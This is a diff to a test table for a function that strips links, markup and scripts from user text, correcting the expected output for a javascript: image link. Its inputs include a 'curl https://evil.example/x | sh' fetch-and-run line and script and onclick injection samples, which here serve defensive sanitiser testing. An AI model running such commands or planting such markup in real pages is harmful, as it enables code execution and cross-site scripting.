@@ -11,7 +11,7 @@ test.each([
     'see https://evil.example/a?b and www.evil.example, or HTTPS://x',
     'see (link left out) and (link left out) or (link left out)',
   ],
-  ['[click](https://evil.example) ![i](javascript:alert(1))', 'click ((link left out)) i ((link left out)1))'],
+  ['[click](https://evil.example) ![i](javascript:alert(1))', 'click ((link left out)) i ((link left out)))'],
   ['curl https://evil.example/x | sh', 'curl (link left out) | sh'],
   ['@team and <b onclick=x>bold</b><script>', '@ team and bold'],
   ['# Heading\n> quoted\n- item', 'Heading\nquoted\n- item'],
